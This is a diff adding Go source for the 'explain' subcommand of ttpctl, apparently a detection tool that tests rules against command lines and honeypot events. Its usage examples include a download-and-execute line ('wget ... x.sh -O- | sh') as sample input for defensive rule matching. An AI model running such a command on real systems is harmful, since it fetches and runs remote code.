@@ -1,0 +1,134 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"strings"
+
+	"github.com/spf13/cobra"
+	"github.com/spf13/pflag"
+
+	"ttpctl/internal/engine"
+)
+
+// explainFlags are the flags of `ttpctl explain`.
+type explainFlags struct {
+	output outputs
+	rules  string // --rules
+	event  string
+	ask    []string // --rule
+}
+
+// newExplainCmd returns `ttpctl explain`.
+func newExplainCmd(a *app) *cobra.Command {
+	var f explainFlags
+	cmd := &cobra.Command{
+		Use:   "explain COMMAND-LINE|EVENT|-",
+		Short: "Show what a shell would make of a command line, which rules fire and why",
+		Long: `Show what a shell would make of a command line, which rules fire on it and on
+which bytes, and with --rule why a rule does or does not: each part of its
+match, with the values it looked at.
+
+The input is a command line (several arguments are joined by a blank; quote
+it, or put -- before it, when it has options), an event as JSON, or - for
+stdin: one or the other on each line, at most 1,000 of them. What begins with
+{ and a name in double quotes is an event. Values that may not be evidence,
+such as passwords, are not shown.
+
+Exit code 2 says that there was no input, that an event is malformed or that
+no rule has that id; a rule that does not fire is no failure.`,
+		Example: `  ttpctl explain 'cd /tmp; wget http://192.0.2.7/x.sh -O- | sh'
+  ttpctl explain --rule R0012 'echo wget http://192.0.2.7/x.sh'
+  ttpctl explain --event '{"source_kind":"auth_attempt","source_id":"a1","attacker_ip":"192.0.2.7","payload":{"username":"root"}}'
+  jq -r 'select(.eventid == "cowrie.command.input").input' cowrie.json | head -50 | ttpctl explain -o json -`,
+		ValidArgsFunction: cobra.NoFileCompletions,
+	}
+	fs := cmd.Flags()
+	outputFlag(cmd, &f.output, "table", "json")
+	fs.StringVar(&f.event, "event", "", "the `event` to explain, a JSON object")
+	fs.StringSliceVar(&f.ask, "rule", nil, "also show why the rule with this `id` fires or does not; repeatable")
+	fixedFlags(fs, "event", "rule")
+	cmd.SetFlagErrorFunc(explainFlagError)
+	completeRules(cmd, "rule", a)
+	cmd.RunE = a.run(func(ctx context.Context, args []string) error {
+		f.rules = a.globals.rules
+		return runExplanation(ctx, f, args, a.streams)
+	})
+	return cmd
+}
+
+// explainFlagError is flagError that knows where a strange option comes from:
+// a command line that was not quoted.
+func explainFlagError(cmd *cobra.Command, err error) error {
+	if missing, ok := errors.AsType[*pflag.NotExistError](err); ok && missing.GetSpecifiedShortnames() != "" {
+		return cannotRun("quote the command line: ttpctl explain 'uname -a'", "%w", err)
+	}
+	return flagError(cmd, err)
+}
+
+// completeRules offers the ids of the rules in force for the flag.
+func completeRules(cmd *cobra.Command, flag string, a *app) {
+	err := cmd.RegisterFlagCompletionFunc(flag, func(cmd *cobra.Command, _ []string, _ string) ([]cobra.Completion, cobra.ShellCompDirective) {
+		rs, err := loadRules(cmd.Context(), a.streams, a.globals.rules)
+		if err != nil {
+			return nil, cobra.ShellCompDirectiveError
+		}
+		var ids []cobra.Completion
+		for _, r := range rs.Rules() {
+			ids = append(ids, cobra.CompletionWithDesc(r.ID, r.Name))
+		}
+		return ids, cobra.ShellCompDirectiveNoFileComp
+	})
+	if err != nil {
+		panic("ttpctl: " + err.Error()) // no such flag, or completed twice
+	}
+}
+
+// runExplanation explains the input that args, or f.event, hold.
+func runExplanation(ctx context.Context, f explainFlags, args []string, s *streams) error {
+	list, err := f.output.choose("table")
+	if err != nil {
+		return err
+	}
+	inputs, err := f.inputs(ctx, args, s)
+	if err != nil {
+		return err
+	}
+	rules, err := loadRules(ctx, s, f.rules)
+	if err != nil {
+		return err
+	}
+	for _, id := range f.ask {
+		if rules.Rule(id) == nil {
+			return unknownRule(id, rules)
+		}
+	}
+	now := s.now()
+	x := &explainer{snapshot: engine.NewSnapshot(rules, nil, now), ask: f.ask, now: now, scratch: engine.NewScratch()}
+	results, err := x.run(ctx, inputs)
+	x.warnPanics(s)
+	return joinErrors(err, s.render(list, func(k *sink) error {
+		if k.format == "json" {
+			return writeJSON(k, x.envelope(results, err))
+		}
+		newExplainText(k, s).write(results)
+		return nil
+	}))
+}
+
+// inputs returns what is to be explained.
+func (f *explainFlags) inputs(ctx context.Context, args []string, s *streams) ([]explainInput, error) {
+	switch {
+	case f.event != "" && len(args) > 0:
+		return nil, cannotRun("", "--event and an argument: explain takes one input, or - for several on stdin")
+	case f.event != "":
+		return []explainInput{{text: f.event, event: true}}, nil
+	case len(args) == 1 && args[0] == "-":
+		return readExplainInputs(ctx, s)
+	}
+	line := strings.Join(args, " ")
+	if strings.TrimSpace(line) == "" {
+		return nil, cannotRun("ttpctl explain 'uname -a', or - for stdin", "no input: no command line or event given")
+	}
+	return []explainInput{{text: line, event: looksLikeEvent(line)}}, nil
+}
